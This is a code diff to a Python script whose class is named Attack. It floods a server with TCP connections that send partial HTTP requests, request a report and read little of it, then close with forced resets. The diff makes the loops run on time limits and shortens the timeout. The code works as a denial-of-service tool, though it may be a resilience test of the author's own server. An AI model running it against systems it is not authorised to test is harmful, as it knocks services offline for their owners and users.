@@ -29,7 +29,7 @@ class Attack:
 
     def connect(self) -> socket.socket:
         """Return a connection whose close is a reset."""
-        connection = socket.create_connection(self._address, timeout=5)
+        connection = socket.create_connection(self._address, timeout=1)
         connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
         self.connections += 1
         return connection
@@ -50,17 +50,19 @@ class Attack:
         for connection in held:
             connection.close()
 
-    def flood(self, count: int) -> None:
+    def flood(self, seconds: float) -> None:
         """Connect, send a part of a request, and reset."""
-        for _ in range(count):
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
             with suppress(OSError):
                 connection = self.connect()
                 connection.sendall((REQUEST + b"\r\n")[: self._random.randrange(26)])
                 connection.close()
 
-    def leave_in_the_answer(self, count: int) -> None:
+    def leave_in_the_answer(self, seconds: float) -> None:
         """Ask for the whole report, read little of it, and reset."""
-        for _ in range(count):
+        end = time.monotonic() + seconds
+        while time.monotonic() < end:
             with suppress(OSError):
                 connection = self.connect()
                 connection.sendall(b"GET /api/v1/report HTTP/1.1\r\n\r\n")
@@ -77,8 +79,8 @@ class Attack:
 def main(host: str, port: str, seconds: str) -> None:
     attack = Attack((host, int(port)), float(seconds))
     while attack.goes_on():
-        attack.flood(300)
-        attack.leave_in_the_answer(100)
+        attack.flood(3)
+        attack.leave_in_the_answer(3)
         attack.complete_late()
     print(attack.connections, flush=True)
 
